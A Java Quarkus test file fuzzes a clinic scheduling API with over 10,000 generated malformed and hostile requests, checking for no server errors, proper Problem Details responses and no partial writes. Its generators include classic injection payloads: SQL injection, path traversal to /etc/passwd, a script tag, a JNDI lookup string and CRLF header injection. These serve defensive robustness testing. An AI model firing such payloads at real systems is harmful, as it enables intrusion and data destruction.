package health.courses.scheduling.api;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import health.courses.localstack.LocalStackTestResource;
import health.courses.scheduling.support.Bookings;
import health.courses.scheduling.support.TestClinic;
import io.agroal.api.AgroalDataSource;
import io.quarkus.test.common.TestResourceScope;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.path.json.JsonPath;
import jakarta.inject.Inject;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.time.Duration;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.Semaphore;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.engine.SourceOfRandomness;
import org.junit.jupiter.api.Test;

/**
 * Issue 8's input test: 10,000+ generated malformed and hostile requests at the booking flow (bodies, path and query
 * parameters) against the running service and database. None may answer 5xx; every 4xx must be Problem Details that
 * names the field (400) or the rule (its type); and nothing refused may leave a write behind.
 *
 * <p>jqwik's property runner cannot start Quarkus, so this is a plain @QuarkusTest that draws from jqwik's generators
 * (with a seed printed on failure, so a run can be replayed with -Dhostile.seed=...) and calls the HTTP port.
 */
@QuarkusTest
@WithTestResource(value = LocalStackTestResource.class, scope = TestResourceScope.GLOBAL, parallel = true)
class HostileInputTest {

    private static final int REQUESTS = 10_500;
    private static final int IN_FLIGHT = 8;
    private static final LocalDate START = LocalDate.of(2027, 5, 3);
    private static final ObjectMapper JSON = new ObjectMapper();

    @TestHTTPResource("/")
    URI base;

    @Inject
    AgroalDataSource dataSource;

    /** What the generated requests may legitimately refer to: one clinic's real ids, and another clinic's. */
    record Known(TestClinic clinic, UUID practitioner, UUID room, UUID patient, UUID course, List<String> sessions,
            UUID foreignRoom) {
    }

    record Hostile(String kind, String method, String path, String contentType, String body, String role) {
    }

    record Answer(Hostile request, int status, String contentType, String body) {
    }

    @Test
    void hostileInputNeverAnswers5xxAndNeverLeavesAPartialWrite() throws Exception {
        Known known = setUp();
        long seed = Long.getLong("hostile.seed", new Random().nextLong());
        Map<String, Long> before = counts(known.clinic().id());

        // sampleStream() is jqwik's way to draw from generators outside its property runner (its generator() needs a
        // jqwik thread); the engine's thread-local source of randomness is seeded first so a failing run can be replayed.
        SourceOfRandomness.create(Long.toString(seed));
        long started = System.nanoTime();
        List<Hostile> generated = requests(known).sampleStream().limit(REQUESTS).toList();
        long drawn = System.nanoTime();
        List<Answer> answers = send(known, generated);
        long answered = System.nanoTime();

        List<String> failures = new ArrayList<>();
        Map<String, AtomicInteger> created = new ConcurrentHashMap<>();
        Map<Integer, AtomicInteger> byStatus = new java.util.TreeMap<>();
        for (Answer answer : answers) {
            byStatus.computeIfAbsent(answer.status(), status -> new AtomicInteger()).incrementAndGet();
            String problem = problemIn(answer);
            if (problem != null) {
                failures.add(problem + " <- " + answer.request().method() + " " + abbreviate(answer.request().path()) + " "
                        + abbreviate(answer.request().body()) + " -> " + answer.status() + " " + abbreviate(answer.body()));
            }
            if (answer.status() < 300 && !answer.request().method().equals("GET")) {
                created.computeIfAbsent(answer.request().kind(), kind -> new AtomicInteger()).incrementAndGet();
            }
        }
        String summary = "seed " + seed + ", " + answers.size() + " requests (drawn in " + (drawn - started) / 1_000_000
                + " ms, answered in " + (answered - drawn) / 1_000_000 + " ms), statuses " + byStatus + ", accepted " + created;
        System.out.println("HostileInputTest: " + summary);
        if (!failures.isEmpty()) {
            java.nio.file.Files.write(java.nio.file.Path.of("target", "hostile-input-failures.txt"), failures);
        }
        assertEquals(List.of(), failures.stream().limit(10).toList(), summary + " (all in target/hostile-input-failures.txt)");
        assertTrue(answers.size() >= 10_000, summary);

        Map<String, Long> after = counts(known.clinic().id());
        assertEquals(before.get("course") + count(created, "book"), after.get("course"), summary);
        assertEquals(before.get("patient") + count(created, "patient"), after.get("patient"), summary);
        assertEquals(before.get("evaluation") + count(created, "evaluation"), after.get("evaluation"), summary);
        assertEquals(before.get("audit") + created.values().stream().mapToInt(AtomicInteger::get).sum(), after.get("audit"),
                "one audit entry per accepted change, none for a refused one; " + summary);
        assertEquals(0, after.get("courseWithoutAllSessions"), summary);
        assertEquals(0, after.get("courseWithoutItsEvent"), summary);
        assertEquals(0, after.get("sessionWithoutEvent"), summary);
    }

    /** Null when the answer is acceptable, else what is wrong with it. */
    private static String problemIn(Answer answer) {
        if (answer.status() >= 500) {
            return "server error";
        }
        if (answer.status() < 400) {
            return null;
        }
        if (answer.contentType() == null || !answer.contentType().startsWith("application/problem+json")) {
            return "not Problem Details (" + answer.contentType() + ")";
        }
        try {
            JsonNode problem = JSON.readTree(answer.body());
            if (!problem.path("type").asText().startsWith("https://courses.health/problems/")
                    || problem.path("status").asInt() != answer.status()) {
                return "no problem type or a wrong status member";
            }
            if (answer.status() == 400) {
                JsonNode errors = problem.path("errors");
                if (!errors.isArray() || errors.isEmpty()) {
                    return "a 400 without errors";
                }
                for (JsonNode error : errors) {
                    if (error.path("field").asText().isBlank() || error.path("rule").asText().isBlank()) {
                        return "an error without field or rule";
                    }
                }
            }
            return null;
        } catch (java.io.IOException e) {
            return "unreadable problem body";
        }
    }

    private Known setUp() {
        TestClinic clinic = TestClinic.fresh();
        UUID practitioner = clinic.addPractitioner("Dr. Hostile");
        UUID room = clinic.addRoom("Room H");
        UUID patient = clinic.patientReadyFor(START);
        JsonPath course = given().auth().oauth2(clinic.bookingToken()).contentType(ContentType.JSON)
                .body(Bookings.threeAWeek(patient, practitioner, room, START)).post("/api/v1/courses")
                .then().statusCode(201).extract().jsonPath();
        return new Known(clinic, practitioner, room, patient, UUID.fromString(course.getString("id")),
                course.getList("sessions.id", String.class), TestClinic.fresh().addRoom("Elsewhere"));
    }

    private List<Answer> send(Known known, List<Hostile> generated) throws Exception {
        HttpClient client = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
                .connectTimeout(Duration.ofSeconds(10)).build();
        Map<String, String> tokens = Map.of(
                "booking", known.clinic().token("booking"),
                "clinician", known.clinic().token("clinician"),
                "both", known.clinic().token("booking", "clinician"));
        Semaphore inFlight = new Semaphore(IN_FLIGHT);
        List<CompletableFuture<Answer>> pending = new ArrayList<>();
        for (Hostile request : generated) {
            HttpRequest.Builder http = HttpRequest.newBuilder(base.resolve(request.path()))
                    .timeout(Duration.ofSeconds(30))
                    .header("Authorization", "Bearer " + tokens.get(request.role()));
            if (request.contentType() != null) {
                http.header("Content-Type", request.contentType());
            }
            http.method(request.method(), request.body() == null ? HttpRequest.BodyPublishers.noBody()
                    : HttpRequest.BodyPublishers.ofString(request.body(), StandardCharsets.UTF_8));
            inFlight.acquire();
            pending.add(client.sendAsync(http.build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8))
                    .handle((response, failure) -> {
                        inFlight.release();
                        if (failure != null) {
                            return new Answer(request, 599, null, String.valueOf(failure));
                        }
                        return new Answer(request, response.statusCode(),
                                response.headers().firstValue("Content-Type").orElse(null), response.body());
                    }));
        }
        return pending.stream().map(CompletableFuture::join).toList();
    }

    // ---- generators ---------------------------------------------------------------------------------------------

    private static Arbitrary<Hostile> requests(Known known) {
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(30, booking(known)),
                net.jqwik.api.Tuple.of(12, patient()),
                net.jqwik.api.Tuple.of(12, evaluation(known)),
                net.jqwik.api.Tuple.of(14, sessionChange(known)),
                net.jqwik.api.Tuple.of(10, courseChange(known)),
                net.jqwik.api.Tuple.of(12, query(known)),
                net.jqwik.api.Tuple.of(10, rawBody(known)));
    }

    private static Arbitrary<Hostile> booking(Known known) {
        Map<String, Arbitrary<String>> fields = new LinkedHashMap<>();
        fields.put("patientId", mix(9, valid(known.patient().toString()), uuidish(known)));
        fields.put("practitionerId", mix(9, valid(known.practitioner().toString()), uuidish(known)));
        fields.put("roomId", mix(9, valid(known.room().toString()), uuidish(known)));
        fields.put("startDate", mix(9, valid(START.plusWeeks(1).toString()), dates()));
        fields.put("sessionsPerWeek", mix(9, Arbitraries.of("2", "3"), numbers()));
        fields.put("weeks", mix(9, Arbitraries.of("4", "8"), numbers()));
        fields.put("localTime", mix(9, Arbitraries.of("\"10:00\"", "\"11:00\"", "\"14:30\"", "\"16:45\""), times()));
        fields.put("weekdays", mix(9, Arbitraries.of("[\"MONDAY\",\"WEDNESDAY\",\"FRIDAY\"]", "null"), weekdays()));
        fields.put("sessionMinutes", mix(9, Arbitraries.of("30", "45"), numbers()));
        return object(fields).map(body -> new Hostile("book", "POST", "api/v1/courses", "application/json", body, "booking"));
    }

    private static Arbitrary<Hostile> patient() {
        Map<String, Arbitrary<String>> fields = new LinkedHashMap<>();
        fields.put("externalReference", mix(3, Arbitraries.strings().alpha().numeric().ofMinLength(1).ofMaxLength(30)
                .map(HostileInputTest::quoted), texts()));
        fields.put("zone", mix(3, valid("Europe/Berlin"), zones()));
        fields.put("language", mix(3, valid("de"), texts()));
        return object(fields).map(body -> new Hostile("patient", "POST", "api/v1/patients", "application/json", body,
                "booking"));
    }

    private static Arbitrary<Hostile> evaluation(Known known) {
        Map<String, Arbitrary<String>> fields = new LinkedHashMap<>();
        fields.put("date", mix(3, valid(START.minusDays(7).toString()), dates()));
        fields.put("clinician", mix(3, valid("Dr. Weber"), texts()));
        fields.put("findings", mix(3, Arbitraries.of("[\"chronic-prostatitis\"]", "[]"), findings()));
        return Combinators.combine(object(fields), segment(known.patient().toString()))
                .as((body, patient) -> new Hostile("evaluation", "POST", "api/v1/patients/" + patient + "/evaluations",
                        "application/json", body, "clinician"));
    }

    private static Arbitrary<Hostile> sessionChange(Known known) {
        Map<String, Arbitrary<String>> fields = new LinkedHashMap<>();
        fields.put("start", mix(3, valid("2027-05-10T11:30"), Arbitraries.oneOf(dates(), texts(), numbers(),
                Arbitraries.of("\"2027-05-10T11:30:00+99:00\"", "\"+999999999-12-31T23:59:59\"", "\"2027-05-10T25:00\"",
                        "\"-999999999-01-01T00:00:00Z\"", "\"2027-05-10T11:30:00Z[Mars/Olympus]\"", "\"2027-05-10\""))));
        fields.put("reason", mix(3, valid("patient-request"), texts()));
        fields.put("by", mix(3, Arbitraries.of("\"clinic\"", "\"patient\""), texts()));
        fields.put("intensity", mix(3, Arbitraries.of("2"), numbers()));
        fields.put("toleranceNote", mix(3, valid("fine"), texts()));
        Arbitrary<String> change = Arbitraries.of("reschedule", "cancel", "missed", "complete");
        Arbitrary<String> session = Arbitraries.of(known.sessions()).flatMap(HostileInputTest::segment);
        return Combinators.combine(object(fields), change, session).as((body, verb, id) -> new Hostile("session", "POST",
                "api/v1/sessions/" + id + "/" + verb, "application/json", body, "both"));
    }

    private static Arbitrary<Hostile> courseChange(Known known) {
        Map<String, Arbitrary<String>> fields = new LinkedHashMap<>();
        fields.put("reason", mix(2, valid("slow-response"), texts()));
        fields.put("weeks", mix(2, Arbitraries.of("1", "2"), numbers()));
        fields.put("from", mix(2, valid(START.plusWeeks(8).toString()), dates()));
        Arbitrary<String> change = Arbitraries.of("hold", "resume", "extend", "cancel");
        return Combinators.combine(object(fields), change, segment(known.course().toString()))
                .as((body, verb, id) -> new Hostile("course", "POST", "api/v1/courses/" + id + "/" + verb,
                        "application/json", body, "clinician"));
    }

    private static Arbitrary<Hostile> query(Known known) {
        Arbitrary<String> value = Arbitraries.oneOf(texts(), numbers(), dates(), uuidish(known), cursors(),
                Arbitraries.of("101", "100", "0", "-1", "abc", "99999999999", "scheduled", "held"))
                .map(HostileInputTest::unquote)
                // The HTTP codec refuses a request line over 4 KiB (414) before any handler of ours runs.
                .map(text -> text.length() > 200 ? text.substring(0, 200) : text)
                .map(HostileInputTest::encode);
        Arbitrary<String> list = Arbitraries.of("api/v1/courses", "api/v1/sessions", "api/v1/availability",
                "api/v1/practitioners", "api/v1/rooms", "api/v1/closures", "api/v1/audit",
                "api/v1/patients/" + known.patient() + "/evaluations");
        Arbitrary<String> name = Arbitraries.of("limit", "cursor", "status", "patientId", "from", "to", "practitionerId",
                "roomId", "sessionsPerWeek", "weeks", "weekdays", "sessionMinutes", "resourceType", "resourceId");
        Arbitrary<String> parameters = Combinators.combine(name, value).as((n, v) -> n + "=" + v)
                .list().ofMinSize(1).ofMaxSize(5).map(pairs -> String.join("&", pairs));
        return Combinators.combine(list, parameters).as((path, query) -> new Hostile("query", "GET", path + "?" + query,
                null, null, "both"));
    }

    /** Bodies that are not JSON objects at all, or not JSON, at every creating endpoint. */
    private static Arbitrary<Hostile> rawBody(Known known) {
        Arbitrary<String> body = Arbitraries.oneOf(
                Arbitraries.of("", "null", "[]", "{}", "{", "}", "{\"a\":", "\"text\"", "42", "true", "\uFEFF{}",
                        "{\"patientId\": }", "{,}", "{'single': 'quotes'}", "{\"a\":1}{\"b\":2}", "NaN", "[{}]"),
                nesting(), Arbitraries.strings().all().ofMaxLength(200), texts());
        Arbitrary<String> target = Arbitraries.of("api/v1/courses", "api/v1/patients",
                "api/v1/patients/" + known.patient() + "/evaluations", "api/v1/sessions/" + known.sessions().get(0) + "/cancel",
                "api/v1/courses/" + known.course() + "/extend");
        Arbitrary<String> contentType = Arbitraries.of("application/json", "application/json", "application/json",
                "text/plain", "application/xml", "application/json; charset=utf-16");
        return Combinators.combine(body, target, contentType).as((text, path, type) -> new Hostile("raw", "POST", path,
                type, text, "both"));
    }

    // ---- JSON pieces: each Arbitrary<String> yields raw JSON text ------------------------------------------------

    /**
     * The valid value most of the time: about one field in a body is hostile (fewer fields, each more often), so most
     * requests get past the first checks and reach the deeper ones with one bad value.
     */
    private static Arbitrary<String> mix(int fields, Arbitrary<String> valid, Arbitrary<String> hostile) {
        return Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(Math.max(10 * fields - 12, 6), valid),
                net.jqwik.api.Tuple.of(8, hostile),
                net.jqwik.api.Tuple.of(4, Arbitraries.of("null", "ABSENT", "{}", "[]", "true", "\"\"")));
    }

    /** An object from the fields, sometimes with a field missing, duplicated or an unknown one added. */
    private static Arbitrary<String> object(Map<String, Arbitrary<String>> fields) {
        List<Arbitrary<String>> members = fields.entrySet().stream()
                .map(field -> field.getValue().map(value -> value.equals("ABSENT") ? ""
                        : "\"" + field.getKey() + "\":" + value))
                .collect(Collectors.toList());
        Arbitrary<String> extra = Arbitraries.oneOf(
                Arbitraries.just(""),
                Arbitraries.just(""),
                Arbitraries.of(fields.keySet()).flatMap(key -> anyValue().map(value -> "\"" + key + "\":" + value)),
                Arbitraries.strings().all().ofMaxLength(20).flatMap(key -> anyValue().map(value -> quoted(key) + ":" + value)));
        return Combinators.combine(Combinators.combine(members).as(list -> list), extra).as((list, more) -> {
            List<String> all = new ArrayList<>(list);
            all.add(more);
            return all.stream().filter(member -> !member.isEmpty()).collect(Collectors.joining(",", "{", "}"));
        });
    }

    private static Arbitrary<String> anyValue() {
        return Arbitraries.oneOf(texts(), numbers(), dates(), times(), zones(), weekdays(), nesting(),
                Arbitraries.of("null", "true", "false", "[]", "{}"));
    }

    private static Arbitrary<String> texts() {
        return Arbitraries.oneOf(
                Arbitraries.strings().all().ofMaxLength(40).map(HostileInputTest::quoted),
                Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMinLength(1).ofMaxLength(5).map(HostileInputTest::quoted),
                Arbitraries.of("'; DROP TABLE scheduling.course; --", "\" OR 1=1 --", "1' OR '1'='1", "{\"$ne\": null}",
                        "../../etc/passwd", "<script>alert(1)</script>", "${jndi:ldap://x.example/a}", "%00", "\u0000",
                        "a\u0000b", "\u202eevil", "𝕏🙂", "\uD800", "\\", "\"", "\r\nX-Injected: 1", " ", "",
                        "FREQ=WEEKLY;BYDAY=MO,WE,FR;COUNT=12", "FREQ=SECONDLY;COUNT=-1",
                        "RRULE:FREQ=DAILY;UNTIL=99991231T000000Z", "FREQ=WEEKLY;BYDAY=XX;INTERVAL=0")
                        .map(HostileInputTest::quoted),
                Arbitraries.integers().between(199, 2100).map(length -> quoted("x".repeat(length))),
                Arbitraries.just(quoted("y".repeat(30_000))));
    }

    private static Arbitrary<String> numbers() {
        return Arbitraries.oneOf(
                Arbitraries.of("0", "-1", "1", "2", "3", "4", "5", "7", "8", "9", "12", "13", "240", "241", "-2147483649",
                        "2147483648", "9223372036854775808", "1e308", "1e400", "-0", "0.5", "3.0", "2.9999999999",
                        "NaN", "Infinity", "-Infinity", "1E2", "0x10", "007", "+3", "\"3\"", "\"three\"", "3e-400"),
                Arbitraries.bigIntegers().between(new java.math.BigInteger("-1" + "0".repeat(40)),
                        new java.math.BigInteger("1" + "0".repeat(40))).map(number -> number.toString()),
                Arbitraries.doubles().map(String::valueOf).filter(text -> !text.contains("Infinity") && !text.equals("NaN")));
    }

    private static Arbitrary<String> dates() {
        return Arbitraries.oneOf(
                Arbitraries.of("2027-02-30", "2027-13-01", "2027-00-10", "0000-01-01", "+999999999-12-31",
                        "-999999999-01-01", "+10000-01-01", "2027-5-3", "2027-05-03T10:00", "", "tomorrow", "1899-12-31",
                        "2200-01-01", "2199-12-31", "1900-01-01", "2026-01-01", "2027-05-03Z", "20270503")
                        .map(HostileInputTest::quoted),
                Combinators.combine(Arbitraries.integers().between(-5000, 300_000), Arbitraries.integers().between(0, 13),
                        Arbitraries.integers().between(0, 32))
                        .as((year, month, day) -> quoted(String.format("%04d-%02d-%02d", year, month, day))));
    }

    private static Arbitrary<String> times() {
        return Arbitraries.of("25:00", "10:60", "24:00", "23:59", "00:00", "10:00:00.123456789", "-01:00", "10",
                "10:00+02:00", "10:00Z", "7:30", "10:00:60", "noon").map(HostileInputTest::quoted);
    }

    private static Arbitrary<String> zones() {
        return Arbitraries.of("Mars/Olympus", "+02:00", "UTC", "Z", "Europe/Berlin\u0000", "../../../etc/localtime",
                "Etc/GMT+14", "SystemV/AST4", "America/Argentina/ComodRivadavia", "GMT0", "europe/berlin", "",
                "Europe/Berlin ", "CET").map(HostileInputTest::quoted);
    }

    private static Arbitrary<String> weekdays() {
        return Arbitraries.oneOf(
                Arbitraries.of("[\"MONDAY\",\"MONDAY\",\"MONDAY\"]", "[\"FUNDAY\"]", "[null]", "[]", "[\"monday\"]",
                        "[\"MO\",\"WE\"]", "[1,2,3]", "\"MONDAY\"", "[\"SUNDAY\",\"SATURDAY\"]", "[\"MONDAY\",\"TUESDAY\"]"),
                Arbitraries.of("MONDAY", "TUESDAY", "WEDNESDAY", "THURSDAY", "FRIDAY", "SATURDAY", "SUNDAY", "X")
                        .list().ofMaxSize(12).map(days -> days.stream().map(HostileInputTest::quoted)
                                .collect(Collectors.joining(",", "[", "]"))));
    }

    private static Arbitrary<String> findings() {
        return Arbitraries.oneOf(
                Arbitraries.of("chronic-prostatitis", "acute-prostatitis", "extensive-calcification", "congestion",
                        "oedema", "unknown", "CHRONIC-PROSTATITIS").list().ofMaxSize(14)
                        .map(codes -> codes.stream().map(HostileInputTest::quoted).collect(Collectors.joining(",", "[", "]"))),
                Arbitraries.of("[null]", "\"congestion\"", "[[\"congestion\"]]", "[{\"code\":\"congestion\"}]"));
    }

    private static Arbitrary<String> uuidish(Known known) {
        return Arbitraries.oneOf(
                Arbitraries.create(UUID::randomUUID).map(id -> quoted(id.toString())),
                Arbitraries.of("00000000-0000-0000-0000-000000000000", "not-a-uuid", "3f1c2a9e-7b6d-4c1e-9a8f-2b3c4d5e6f7",
                        "{3f1c2a9e-7b6d-4c1e-9a8f-2b3c4d5e6f70}", "AAAAAAAAAAAAAAAAAAAAAA==", "1-1-1-1-1",
                        "3F1C2A9E-7B6D-4C1E-9A8F-2B3C4D5E6F70", "zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz",
                        known.foreignRoom().toString(), known.course().toString()).map(HostileInputTest::quoted),
                texts(), numbers());
    }

    private static Arbitrary<String> cursors() {
        return Arbitraries.oneOf(
                Arbitraries.strings().all().ofMaxLength(30).list().ofMinSize(1).ofMaxSize(4)
                        .map(keys -> Base64.getUrlEncoder().withoutPadding()
                                .encodeToString(String.join("\u001f", keys).getBytes(StandardCharsets.UTF_8))),
                Arbitraries.strings().ofMaxLength(40)).map(HostileInputTest::quoted);
    }

    private static Arbitrary<String> nesting() {
        return Arbitraries.integers().between(1, 3000).flatMap(depth -> Arbitraries.of(
                "[".repeat(depth) + "]".repeat(depth),
                "{\"a\":".repeat(depth) + "1" + "}".repeat(depth),
                "[".repeat(depth)));
    }

    /** A path segment: the real id most of the time, else something hostile, URL-encoded. */
    private static Arbitrary<String> segment(String real) {
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(6, Arbitraries.just(real)),
                net.jqwik.api.Tuple.of(4, Arbitraries.oneOf(texts(), numbers(), Arbitraries.strings().ofMaxLength(300)
                        .map(HostileInputTest::quoted), Arbitraries.create(UUID::randomUUID).map(id -> quoted(id.toString())))
                        .map(HostileInputTest::unquote)
                        .map(text -> text.length() > 100 ? text.substring(0, 100) : text)
                        .map(text -> text.isEmpty() ? "%20" : encode(text))));
    }

    // ---- helpers ------------------------------------------------------------------------------------------------

    private static Arbitrary<String> valid(String text) {
        return Arbitraries.just(quoted(text));
    }

    private static String quoted(String text) {
        try {
            return JSON.writeValueAsString(text);
        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String unquote(String json) {
        try {
            JsonNode node = JSON.readTree(json);
            return node != null && node.isTextual() ? node.asText() : json;
        } catch (java.io.IOException e) {
            return json;
        }
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String abbreviate(String text) {
        return text == null ? "" : text.length() > 200 ? text.substring(0, 200) + "..." : text;
    }

    private static long count(Map<String, AtomicInteger> created, String kind) {
        AtomicInteger count = created.get(kind);
        return count == null ? 0 : count.get();
    }

    private Map<String, Long> counts(UUID clinicId) throws SQLException {
        Map<String, String> queries = new LinkedHashMap<>();
        queries.put("course", "SELECT count(*) FROM scheduling.course WHERE clinic_id = ?");
        queries.put("patient", "SELECT count(*) FROM scheduling.patient WHERE clinic_id = ?");
        queries.put("evaluation", "SELECT count(*) FROM scheduling.evaluation WHERE clinic_id = ?");
        queries.put("audit", "SELECT count(*) FROM scheduling.audit_log WHERE clinic_id = ?");
        queries.put("courseWithoutAllSessions", """
                SELECT count(*) FROM scheduling.course c WHERE c.clinic_id = ? AND c.sessions_per_week * c.weeks <>
                    (SELECT count(*) FROM scheduling.session s WHERE s.course_id = c.id AND s.make_up_for IS NULL)""");
        queries.put("courseWithoutItsEvent", """
                SELECT count(*) FROM scheduling.course c WHERE c.clinic_id = ? AND NOT EXISTS (
                    SELECT 1 FROM scheduling.outbox_event o WHERE o.aggregate_id = c.id AND o.type = 'course.scheduled.v1')""");
        // Sessions added to a held course are announced by its resume, so only sessions not held need an event now.
        queries.put("sessionWithoutEvent", """
                SELECT count(*) FROM scheduling.session s WHERE s.clinic_id = ? AND s.status <> 'held' AND NOT EXISTS (
                    SELECT 1 FROM scheduling.outbox_event o WHERE o.aggregate_id = s.course_id AND o.subject = s.id::text)""");
        Map<String, Long> counts = new LinkedHashMap<>();
        try (Connection connection = dataSource.getConnection()) {
            for (Map.Entry<String, String> query : queries.entrySet()) {
                try (PreparedStatement statement = connection.prepareStatement(query.getValue())) {
                    statement.setObject(1, clinicId);
                    try (ResultSet result = statement.executeQuery()) {
                        result.next();
                        counts.put(query.getKey(), result.getLong(1));
                    }
                }
            }
        }
        return counts;
    }
}
